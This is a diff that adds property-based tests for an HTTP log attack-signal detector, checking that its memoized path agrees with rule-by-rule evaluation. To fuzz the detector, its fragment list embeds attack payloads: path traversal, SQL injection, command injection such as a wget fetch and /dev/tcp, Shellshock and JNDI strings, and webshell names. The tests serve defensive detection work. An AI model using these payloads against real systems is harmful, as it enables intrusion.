@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import dataclasses
+import functools
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
@@ -624,3 +625,89 @@ def test_detector_never_raises_on_arbitrary_event_strings(detect: SignalDetector
     signals = detect(event)
     assert all(signal is RULES[signal.rule] for signal in signals)
     assert len(signals) == len({signal.rule for signal in signals})
+
+
+# --------------------------------------------------------------------------------------------- memo
+
+# Pieces of attacks and of ordinary values, so that drawn values come close to every rule's edge: encoded
+# and raw markers, gate characters and payloads that hide them (double encoding), OS files, scanner and
+# bot names, login and admin paths, trailing spaces.
+_PIECES = st.sampled_from(
+    [
+        *("/", "?", "&", "=", "+", " ", "%", "%25", "%20", "%2B", "%00", "\x00", "\r\n", "\\", ".", "*", "[s]"),
+        *("'", '"', "(", ")", ";", "|", "`", "$", "${", "%28", "%7b", "%7B", "%24%7B", "<", ">", "&lt;"),
+        *("..", "../", "..%2f", "%2e%2e%2f", "%252e", "%c0%af", "%2541", "%u0041", "0x2e0x2e", "..;"),
+        *("/etc/passwd", "/et*/pas[s]wd", "win.ini", "php://filter", "http://198.51.100.9/x.txt?", "ftp://h/"),
+        *("' or '1'='1", "+union+select+1,2--", "1;drop table t", "sleep(5)", "<script>", " onerror=", "onload="),
+        *(";id", ";id ", "|id", "$(id)", "`id`", "; wget http://h/x", "env --version", "/dev/tcp/1/2", "<?php"),
+        *("() { :; };", "%28%29%20%7B", "%2528%2529%2520%257B", "%u0028%u0029%u0020%u007b", "%7B%2528%2529%2520%257B"),
+        *("${jndi:ldap://h/a}", "%2524%257Bjndi:", "${${lower:j}ndi:", "%0d%0aSet-Cookie:a=b", "%0ALocation:x"),
+        *("/.env", "/.git/", "c99.php", "/wp-login.php", "/login", "/phpmyadmin/", "/manager/html", "/admin"),
+        *("/bin/ba[s]h", "/bin/sh"),
+        *("sqlmap", "Nikto", "zgrab", "MJ12bot", "Sogou web spider", "Mozilla/5.0 (X11; Linux x86_64)", "Gecko"),
+        *("http://example.org/", "https://www.google.com/url?q=", "index.php", "/img/a.png", "a", "Z", "7"),
+    ]
+)
+_VALUE = st.lists(_PIECES | st.text(max_size=4), max_size=8).map("".join)
+# Values that recur across examples, so that the memo holds them in every role (target, agent, referrer).
+_REPEATED = st.sampled_from(
+    ["/", "/index.html", "/.env", "/blog/wp-login.php", "/phpmyadmin/", BROWSER, "sqlmap/1.7", "${jndi:", ""]
+)
+_FIELD = st.none() | _VALUE | _REPEATED
+# Every event is also tried with each of these, so that the rules that weigh them always get their turn.
+_METHOD_STATUS_USER = [
+    (method, status, user)
+    for method in ("GET", "POST", "TRACE", None)
+    for status in (200, 400, 401, 403, 404, 408, None)
+    for user in (None, "alice")
+]
+
+
+@functools.cache
+def _detector(enabled: tuple[str, ...] | None) -> SignalDetector:
+    """One detector per rule selection, shared by the examples (building one costs ~20 ms)."""
+    return SignalDetector.build(SignalParams(enabled_rules=None if enabled is None else list(enabled)))
+
+
+@settings(max_examples=400, deadline=None)
+@given(
+    st.lists(
+        st.builds(
+            http,
+            url=_FIELD,
+            http_version=st.sampled_from(["HTTP/1.1", "HTTP/2.0", "HTTP/1.2", None]),
+            user_agent=_FIELD,
+            referrer=_FIELD,
+            extra=st.sampled_from([{}, {"request": "malformed"}]),
+        ),
+        min_size=1,
+        max_size=3,
+    ),
+    st.sampled_from([None, ("http.shellshock",), ("http.jndi", "http.xss"), ("http.auth_failure", "http.bad_bot_ua")]),
+)
+def test_memoized_path_agrees_with_rule_by_rule_evaluation(
+    events: list[Event], enabled: tuple[str, ...] | None
+) -> None:
+    """The fast path (per-value facts from the memo) fires exactly the rules that evaluating each rule on
+    the event itself fires: for a value seen for the first time, for one read back from the memo, and for
+    one seen before in another role (as a user agent, then as a referrer)."""
+    detector = _detector(enabled)
+    for event in events * 2:  # the second round reads every value from the memo
+        for method, status, user in _METHOD_STATUS_USER:
+            variant = dataclasses.replace(event, method=method, status=status, user=user)
+            assert detector(variant) == detector._uncached(variant)
+
+
+def test_memo_is_bounded_and_a_full_memo_changes_no_answer(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A full memo starts over, and a value too long to keep is evaluated every time, with the same result."""
+    monkeypatch.setattr("transforms.signals._MEMO_ENTRIES", 8)
+    monkeypatch.setattr("transforms.signals._MEMO_KEY_CHARS", 40)
+    detector = SignalDetector.build(SignalParams())
+    long_attack = "/x?" + "a" * 40 + "=%27+or+%271%27%3D%271"
+    events = [http(f"/page/{i}.html", user_agent=f"agent {i}") for i in range(20)] + [http(long_attack)]
+    for event in events * 2:
+        assert detector(event) == detector._uncached(event)
+    assert len(detector._target_memo) <= 8
+    assert len(detector._user_agent_memo) <= 8
+    assert long_attack not in detector._target_memo
+    assert rules(detector(http(long_attack))) == {"http.sqli"}
